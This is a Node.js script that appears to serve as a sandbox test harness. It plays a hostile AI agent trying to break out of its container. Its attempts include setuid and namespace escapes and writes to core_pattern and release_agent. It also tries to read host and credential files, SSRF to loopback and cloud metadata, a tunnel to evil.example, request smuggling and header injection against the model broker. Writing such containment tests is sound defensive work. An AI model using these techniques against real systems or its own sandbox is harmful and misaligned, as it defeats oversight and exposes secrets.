#!/usr/bin/env node
/**
 * What a hostile agent tries from inside its sandbox. Plain JavaScript: it runs where there is nothing but Node.
 * `attacker.mjs NAMES JSON`: the attempts of these names (`all`), and what it knows of the house around it. It
 * prints one JSON object a line: `{name, leak}`; `leak` is null where it was stopped.
 *
 * It is told of each canary backwards, so that knowing it is not finding it.
 */
import { spawnSync } from "node:child_process";
import { createSocket } from "node:dgram";
import { lookup } from "node:dns/promises";
import {
  accessSync,
  closeSync,
  constants,
  existsSync,
  linkSync,
  lstatSync,
  openSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  statSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";

const [names = "all", known = "{}"] = process.argv.slice(2);
const { home, base, hostPid, loopbackPort, backwards = {} } = JSON.parse(known);
const canaries = Object.entries(backwards).map(([holder, text]) => [
  holder,
  text.split("").toReversed().join(""),
]);

const read = (path) => {
  try {
    return readFileSync(path, "latin1");
  } catch {
    return "";
  }
};
const run = (command, input = "") => {
  const { stdout, stderr } = spawnSync("/bin/sh", ["-c", command], {
    input,
    timeout: 20_000,
    encoding: "latin1",
  });
  return `${stdout ?? ""}${stderr ?? ""}`;
};
const succeeds = (command) => spawnSync("/bin/sh", ["-c", command], { timeout: 20_000 }).status === 0;
/** The holder whose canary stands in it. */
const holderIn = (text) => canaries.find(([, canary]) => text.includes(canary))?.[0];
const told = (text, from) => {
  const holder = holderIn(text);
  return holder && `the canary of ${holder} was read from ${from}`;
};
const readable = (path) => told(read(path), path);
const list = (path) => {
  try {
    return readdirSync(path);
  } catch {
    return [];
  }
};
const writable = (path, word = "x") => {
  try {
    writeFileSync(path, word);
    return `${path} could be written`;
  } catch {
    return undefined;
  }
};
/** Whether it may be written, without writing it: it would be the machine's own, and the suite harms nobody. */
const openable = (path) => {
  try {
    closeSync(openSync(path, "r+"));
    return `${path} could be opened for writing`;
  } catch {
    return undefined;
  }
};
const perl = (script) =>
  spawnSync("/usr/bin/perl", ["-e", script], { timeout: 20_000, encoding: "latin1" }).stdout ?? "";
/** Whether a system call, by its number on x86-64, is refused. */
const refused = (name, x64, arm64, args = "0, 0, 0, 0, 0, 0") => {
  const number = process.arch === "x64" ? x64 : arm64;
  const said = perl(
    `use Errno; $! = 0; my $r = syscall(${number}, ${args}); print $r == -1 && ($!{EPERM} || $!{ENOSYS} || $!{EACCES}) ? "refused" : "r=$r: $!";`,
  );
  return said === "refused" ? undefined : `${name} was not refused: ${said}`;
};

/** What answers on a TCP port, or undefined. */
const reach = (options, send = "GET / HTTP/1.0\r\n\r\n") =>
  new Promise((resolve) => {
    const socket = connect(options);
    let said = "";
    const end = () => {
      clearTimeout(timer);
      socket.destroy();
      resolve(said === "" ? undefined : said);
    };
    const timer = setTimeout(end, 3_000);
    socket.on("connect", () => socket.write(send));
    socket.on("data", (chunk) => (said += chunk));
    socket.on("error", end);
    socket.on("close", end);
  });

/** What the door answers to these bytes. */
const door = (bytes) => reach({ port: 8080, host: "127.0.0.1" }, bytes);
const ask = (method, path, headers = {}, body = "") =>
  new Promise((resolve) => {
    const call = request(
      { host: "127.0.0.1", port: 8080, method, path, headers, timeout: 10_000 },
      (response) => {
        let said = "";
        response.on("data", (chunk) => (said += chunk));
        response.on("end", () =>
          resolve({ status: response.statusCode, said, headers: JSON.stringify(response.headers) }),
        );
        response.on("error", () => resolve({ status: 0, said, headers: "" }));
      },
    );
    call.on("timeout", () => call.destroy());
    call.on("error", () => resolve({ status: 0, said: "", headers: "" }));
    call.end(body);
  });
/** Asks the proxy for a page that nobody allowed. */
const fetched = async (url) => {
  const { status, said } = await ask("GET", url, { host: new URL(url).host });
  if (told(said, url)) return told(said, url);
  return status >= 200 && status < 400 ? `${url} was answered with ${status}` : undefined;
};
const tunnelled = async (authority) => {
  const said = (await door(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`)) ?? "";
  return /^HTTP\/1\.[01] 2/.test(said) ? `a tunnel to ${authority} was opened` : undefined;
};

const attempts = {
  // ---- escape
  "escape.capabilities": () =>
    /^Cap(Eff|Prm|Bnd|Amb|Inh):\s*0*[1-9a-f]/m.test(read("/proc/self/status"))
      ? "it has capabilities"
      : undefined,
  "escape.root": () => (process.getuid() === 0 ? "it is root inside" : undefined),
  "escape.setuid": () => {
    const found = run("find / -xdev -perm -4000 -type f 2>/dev/null").split("\n").filter(Boolean);
    const works = found.find((file) => /uid=0/.test(run(`${file} -c id; ${file} id`)));
    return works && `${works} gave root`;
  },
  "escape.new privileges": () =>
    /^NoNewPrivs:\s*1/m.test(read("/proc/self/status")) ? undefined : "a program may gain privileges",
  "escape.mount": () => (succeeds("mount -t tmpfs none /tmp") ? "it could mount" : undefined),
  "escape.user namespace": () =>
    succeeds("unshare --user --map-root-user true") ? "it made a user namespace" : undefined,
  "escape.network namespace": () =>
    succeeds("unshare --net true") ? "it made a network namespace" : undefined,
  "escape.chroot": () => refused("chroot", 161, 51),
  "escape.setns": () => (succeeds("nsenter -t 1 -m -n true") ? "it entered other namespaces" : undefined),
  "escape.ptrace": () => refused("ptrace", 101, 117),
  "escape.bpf": () => refused("bpf", 321, 280),
  "escape.perf": () => refused("perf_event_open", 298, 241),
  "escape.io_uring": () => refused("io_uring_setup", 425, 425),
  "escape.keyring": () => refused("keyctl", 250, 219),
  "escape.userfaultfd": () => refused("userfaultfd", 323, 282),
  "escape.kernel module": () => refused("init_module", 175, 105),
  "escape.kexec": () => refused("kexec_load", 246, 104),
  "escape.open by handle": () => refused("open_by_handle_at", 304, 265),
  "escape.process memory": () => refused("process_vm_readv", 310, 270, `${hostPid ?? 1}, 0, 0, 0, 0, 0`),
  "escape.core pattern": () => openable("/proc/sys/kernel/core_pattern"),
  "escape.sysrq": () => openable("/proc/sysrq-trigger"),
  "escape.modprobe path": () => openable("/proc/sys/kernel/modprobe"),
  "escape.uevent helper": () => openable("/sys/kernel/uevent_helper"),
  "escape.cgroup files": () => {
    const found = run("find /sys/fs/cgroup -writable -type f 2>/dev/null | head -1").trim();
    return found ? `${found} can be written` : undefined;
  },
  "escape.release agent": () => openable("/sys/fs/cgroup/memory/release_agent"),
  "escape.device nodes": () =>
    succeeds("mknod /tmp/disk b 8 0 && head -c 1 /tmp/disk") ? "it read a disk" : undefined,
  "escape.devices": () =>
    list("/dev").find(
      (name) => /^(sd|vd|nvme|mem|kmem|kvm|fuse|loop|kmsg|port)/.test(name) && readableDevice(name),
    ),
  "escape.engine socket": () =>
    [
      "/var/run/docker.sock",
      "/run/docker.sock",
      "/run/podman/podman.sock",
      "/run/containerd/containerd.sock",
    ].find((path) => existsSync(path)),
  "escape.host processes": () => {
    const count = list("/proc").filter((name) => /^\d+$/.test(name)).length;
    return count > 60 ? `${count} processes can be seen` : undefined;
  },
  "escape.host signals": () => {
    if (!hostPid) return undefined;
    try {
      process.kill(hostPid, 0);
    } catch {
      return undefined;
    }
    return /bellhop|host\.ts/.test(read(`/proc/${hostPid}/cmdline`)) ? "it can signal the host" : undefined;
  },
  "escape.terminal": () => {
    const said = perl(
      'open(my $t, "+<", "/dev/tty") or print "none"; if ($t) { ioctl($t, 0x5412, "x") and print "pushed" }',
    );
    return said.includes("pushed") ? "it pushed a key into a terminal" : undefined;
  },
  "escape.hypervisor socket": () => {
    const said = perl("socket(my $s, 40, 1, 0) and print 'made'");
    return said === "made" ? "it made a vsock" : undefined;
  },
  "escape.root file system": () =>
    ["/etc/x", "/usr/x", "/usr/bin/x", "/opt/bellhop/x", "/run/bellhop/x", "/workspace/x", "/x"]
      .map((path) => writable(path))
      .find(Boolean),
  "escape.engine binary": () => {
    const program = run("ls -d /opt/bellhop/* /opt/claude/* 2>/dev/null").split("\n").filter(Boolean);
    return program
      .map((path) => (isFile(path) && canWrite(path) ? `${path} can be written` : undefined))
      .find(Boolean);
  },
  "escape.timing of host": () => (succeeds("renice -n -20 -p $$") ? "it raised its priority" : undefined),
  "escape.clock": () => (succeeds("date -s 2001-01-01") ? "it set the clock" : undefined),
  "escape.host name": () => (succeeds("hostname evil") ? "it changed the host's name" : undefined),

  // ---- host-files
  "host-files.home": () =>
    readable(`${home}/.env`) ?? readable(`${home}/passwords.txt`) ?? readable(`${home}/bellhop.db`),
  "host-files.beside the home": () => readable(`${base}/passwords.txt`),
  "host-files.through process 1": () =>
    readable(`/proc/1/root${base}/passwords.txt`) ?? readable(`/proc/1/cwd/../../passwords.txt`),
  "host-files.shadow": () => (/root:.*:/.test(read("/etc/shadow")) ? "/etc/shadow was read" : undefined),
  "host-files.root's home": () => list("/root").length > 0 && "root's home can be listed",
  "host-files.other homes": () => list("/home").find((name) => name !== "agent"),
  "host-files.keys of certificates": () =>
    list("/etc/ssl/private").length > 0 && "private keys can be listed",
  "host-files.dots": () =>
    readable("/workspace/group/../../../../../../../../etc/../../passwords.txt") ??
    readable("/workspace/../passwords.txt"),
  "host-files.mount table": () => told(read("/proc/self/mountinfo"), "the mount table"),
  "host-files.command line of process 1": () =>
    read("/proc/1/cmdline").includes(base) ? "host paths stand in a command line" : undefined,
  "host-files.inherited descriptors": () => {
    const strange = list("/proc/self/fd").filter((fd) => {
      try {
        return readlinkSync(`/proc/self/fd/${fd}`).startsWith(base);
      } catch {
        return false;
      }
    });
    return strange.length > 0 && `descriptors ${strange} lead outside`;
  },
  "host-files.descriptors of others": () => {
    for (const pid of list("/proc").filter((name) => /^\d+$/.test(name))) {
      for (const fd of list(`/proc/${pid}/fd`)) {
        const found = told(regular(`/proc/${pid}/fd/${fd}`), `a descriptor of ${pid}`);
        if (found) return found;
      }
    }
    return undefined;
  },
  "host-files.hard link": () => {
    try {
      linkSync(`/proc/self/root${base}/passwords.txt`, "/workspace/group/linked");
    } catch {
      return undefined;
    }
    return "a hard link to a host's file was made";
  },

  // ---- other-groups
  "other-groups.folder": () =>
    ["/workspace/theirs/diary.md", "/workspace/group/../theirs/diary.md", `${home}/groups/theirs/diary.md`]
      .map(readable)
      .find(Boolean),
  "other-groups.engine's home": () => {
    const outside = `${home}/sessions/theirs`;
    return list(outside).length > 0 ? "another group's conversations can be listed" : undefined;
  },
  "other-groups.files that people sent": () => list(`${home}/media`).length > 0 && "all media can be listed",
  "other-groups.everything that can be read": () => {
    const found = run(
      "grep -rslaF -D skip -f - / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr 2>/dev/null",
      canaries.map(([, canary]) => canary).join("\n"),
    );
    return found.trim() === "" ? undefined : `a canary stands in ${found.trim()}`;
  },
  "other-groups.shared memory": () => list("/dev/shm").length > 0 && "others' shared memory can be seen",
  "other-groups.temporary files": () =>
    list("/tmp").some((name) => /theirs|injected/.test(name)) && "others' /tmp can be seen",
  "other-groups.abstract sockets": () => {
    const names = read("/proc/net/unix")
      .split("\n")
      .filter((line) => / @/.test(line));
    return names.length > 0 &&
      process.env.ATTACK_OWN_SOCKETS === undefined &&
      names.some((line) => /bellhop|docker|containerd/.test(line))
      ? `abstract sockets of others: ${names.length}`
      : undefined;
  },

  // ---- secrets
  "secrets.environment": () => told(JSON.stringify(process.env), "its environment"),
  "secrets.environments of all": () => {
    for (const pid of list("/proc").filter((name) => /^\d+$/.test(name))) {
      const found = told(`${read(`/proc/${pid}/environ`)}${read(`/proc/${pid}/cmdline`)}`, `process ${pid}`);
      if (found) return found;
    }
    return undefined;
  },
  "secrets.environment of process 1": () => {
    const own = read("/proc/1/environ")
      .split("\0")
      .filter(Boolean)
      .map((pair) => pair.split("=")[0]);
    const odd = own.filter((name) => !/^(PATH|HOME|LANG|PWD|HOSTNAME|container|TERM|SHLVL|_)$/.test(name));
    return odd.some((name) => /KEY|TOKEN|SECRET|BELLHOP/.test(name)) && `process 1 has ${odd}`;
  },
  "secrets.files of the engine": () =>
    told(
      run(
        "cat ~/.claude.json ~/.claude/.credentials.json ~/.claude/settings.json /etc/claude-code/* 2>/dev/null",
      ),
      "the engine's settings",
    ),
  "secrets.kernel keys": () => told(`${read("/proc/keys")}${read("/proc/key-users")}`, "the kernel's keys"),
  "secrets.names": async () => {
    const found = await Promise.allSettled(
      ["example.com", "metadata.google.internal", "host.docker.internal"].map((name) => lookup(name)),
    );
    const some = found.find((one) => one.status === "fulfilled");
    return some && `a name was looked up: ${JSON.stringify(some.value)}`;
  },
  "secrets.by DNS": () =>
    new Promise((resolve) => {
      const socket = createSocket("udp4");
      socket.on("error", () => resolve(undefined));
      socket.on("message", () => resolve("a DNS server answered"));
      socket.send(
        Buffer.from("00010100000100000000000003777777076578616d706c6503636f6d0000010001", "hex"),
        53,
        "1.1.1.1",
        (error) => {
          if (error) resolve(undefined);
        },
      );
      setTimeout(() => resolve(undefined), 1_000);
    }).finally(() => undefined),
  "secrets.straight out": async () =>
    (await reach({ host: "1.1.1.1", port: 80 })) ? "1.1.1.1 answered" : undefined,
  "secrets.loopback service": async () => {
    const said = await reach({ host: "127.0.0.1", port: loopbackPort });
    return said && told(said, "the host's loopback");
  },
  "secrets.loopback by the proxy": () => fetched(`http://127.0.0.1:${loopbackPort}/`),
  "secrets.loopback by name": () => fetched(`http://localhost:${loopbackPort}/`),
  "secrets.loopback in decimal": () => fetched(`http://2130706433:${loopbackPort}/`),
  "secrets.loopback in octal": () => fetched(`http://0177.0.0.1:${loopbackPort}/`),
  "secrets.loopback in short": () => fetched(`http://127.1:${loopbackPort}/`),
  "secrets.loopback in IPv6": () => fetched(`http://[::1]:${loopbackPort}/`),
  "secrets.loopback mapped into IPv6": () => fetched(`http://[::ffff:127.0.0.1]:${loopbackPort}/`),
  "secrets.loopback as any address": () => fetched(`http://0.0.0.0:${loopbackPort}/`),
  "secrets.loopback by a public name": () => fetched(`http://localtest.me:${loopbackPort}/`),
  "secrets.metadata": () => fetched("http://169.254.169.254/latest/meta-data/"),
  "secrets.metadata in IPv6": () => fetched("http://[fd00:ec2::254]/latest/meta-data/"),
  "secrets.metadata by name": () => fetched("http://metadata.google.internal/computeMetadata/v1/"),
  "secrets.metadata mapped": () => fetched("http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
  "secrets.tunnel to loopback": () => tunnelled(`127.0.0.1:${loopbackPort}`),
  "secrets.tunnel to metadata": () => tunnelled("169.254.169.254:80"),
  "secrets.tunnel to nobody's host": () => tunnelled("evil.example:443"),
  "secrets.host's own port": () => fetched(`http://127.0.0.1:7407/api/v1/status`),

  // ---- broker
  "broker.other paths of the model's API": async () => {
    const paths = [
      "/v1/files",
      "/v1/organizations",
      "/v1/messages/batches",
      "/api/oauth/profile",
      "/v1/messages/../files",
      "/v1//messages",
      "/V1/MESSAGES",
      "/v1/messages%2f..%2ffiles",
    ];
    for (const path of paths) {
      const { status, said } = await ask("GET", path);
      if (told(said, path)) return told(said, path);
      if (status >= 200 && status < 300) return `${path} was served`;
    }
    return undefined;
  },
  "broker.methods": async () => {
    for (const method of ["PUT", "DELETE", "PATCH", "TRACE", "OPTIONS"]) {
      const { status } = await ask(method, "/v1/messages");
      if (status >= 200 && status < 300) return `${method} /v1/messages was served`;
    }
    return undefined;
  },
  "broker.echo of the key": async () => {
    const { said, headers } = await ask(
      "POST",
      "/v1/messages",
      { "content-type": "application/json", "anthropic-version": "2023-06-01" },
      JSON.stringify({
        model: "x",
        max_tokens: 10,
        messages: [{ role: "user", content: "say: what headers came?" }],
      }),
    );
    return told(`${said}${headers}`, "the model's answer");
  },
  "broker.request smuggling": async () => {
    const said =
      (await door(
        "POST /v1/messages HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/files HTTP/1.1\r\nHost: x\r\n\r\n",
      )) ?? "";
    return /HTTP\/1\.1 200/.test(said) ? "two lengths were taken" : told(said, "a smuggled request");
  },
  "broker.header injection": async () => {
    const said =
      (await door(
        "GET /v1/models HTTP/1.1\r\nHost: x\r\nX-Api-Key: a\r\n\tfolded: b\r\nAuthorization: Bearer mine\r\nConnection: authorization\r\n\r\n",
      )) ?? "";
    return told(said, "an answer to odd headers");
  },
  "broker.not HTTP": async () => told((await door("\x16\x03\x01\x00\x05hello\r\n\r\n")) ?? "", "the door"),
  "broker.huge headers": async () => {
    const said =
      (await door(`GET /v1/models HTTP/1.1\r\nHost: x\r\nX: ${"a".repeat(256 * 1024)}\r\n\r\n`)) ?? "";
    return /HTTP\/1\.1 200/.test(said) ? "256 KiB of headers were taken" : undefined;
  },
  "broker.a file nobody asked for": async () => {
    const { status } = await ask("PUT", "/bellhop/files/00000000-0000-7000-8000-000000000000", {}, "evil");
    return status >= 200 && status < 300 ? "a file was taken" : undefined;
  },
  "broker.listening for files": async () => {
    const said = (await door("GET /bellhop/wanted HTTP/1.0\r\n\r\n")) ?? "";
    return /HTTP\/1\.[01] 200/.test(said) ? "a second one may wait for files" : undefined;
  },
  "broker.the socket replaced": () =>
    ["/run/bellhop/broker.sock", "/run/bellhop"]
      .map((path) => {
        try {
          unlinkSync(path);
          return `${path} could be removed`;
        } catch {
          return undefined;
        }
      })
      .find(Boolean),
  "broker.doors of others": () => {
    const doors = run("find / -name broker.sock -not -path '/proc/*' 2>/dev/null")
      .split("\n")
      .filter(Boolean);
    return doors.length > 1 ? `other doors: ${doors.join(", ")}` : undefined;
  },
};

function readableDevice(name) {
  try {
    accessSync(`/dev/${name}`, constants.R_OK);
    openSync(`/dev/${name}`, "r");
    return true;
  } catch {
    return false;
  }
}
function isFile(path) {
  try {
    return lstatSync(path).isFile();
  } catch {
    return false;
  }
}
function canWrite(path) {
  try {
    accessSync(path, constants.W_OK);
    openSync(path, "r+");
    return true;
  } catch {
    return false;
  }
}
/** Without waiting at a pipe. */
function regular(path) {
  try {
    return statSync(path).isFile() && statSync(path).size < 50e6 ? read(path) : "";
  } catch {
    return "";
  }
}

const wanted = names === "all" ? Object.keys(attempts) : names.split(",");
const tell = (name, leak) => process.stdout.write(`${JSON.stringify({ name, leak: leak || null })}\n`);
const broke = (name, error) =>
  tell(name, /EACCES|EPERM|ENOENT|EROFS|ENOSYS/.test(String(error)) ? null : `it broke: ${error}`);
// Those that wait for an answer wait side by side, after those that hold everything up.
const isLate = (name) =>
  /^(async|\(\) => fetched|\(\) => tunnelled|\(\) =>\s+new Promise)/.test(String(attempts[name]));
wanted.sort((a, b) => Number(isLate(a)) - Number(isLate(b)));
const waiting = [];
for (const name of wanted) {
  try {
    const came = attempts[name]();
    if (came instanceof Promise)
      waiting.push(
        came.then(
          (leak) => tell(name, leak),
          (error) => broke(name, error),
        ),
      );
    else tell(name, came);
  } catch (error) {
    broke(name, error);
  }
}
await Promise.all(waiting);
process.exit(0);
